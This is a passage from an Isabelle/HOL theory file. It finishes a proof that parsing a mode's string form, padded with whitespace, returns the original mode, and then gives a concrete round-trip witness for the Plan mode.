  have core: "\<not> is_whitespace (hd (mode_as_str m))" "\<not> is_whitespace (last (mode_as_str m))"
    "mode_as_str m \<noteq> []"
    by (cases m; simp add: is_whitespace_def)+
  have "trim (before @ mode_as_str m @ after) = mode_as_str m"
    using trim_padded core assms by auto
  then show ?thesis
    by (cases m) (simp_all add: parse_mode_def to_lowercase_def, code_simp+)
qed

theorem mode_round_trip_witness: "parse_mode ('' '' @ mode_as_str Plan @ [CHR 0x09]) = Some Plan"
  by (rule mode_round_trip) code_simp

end
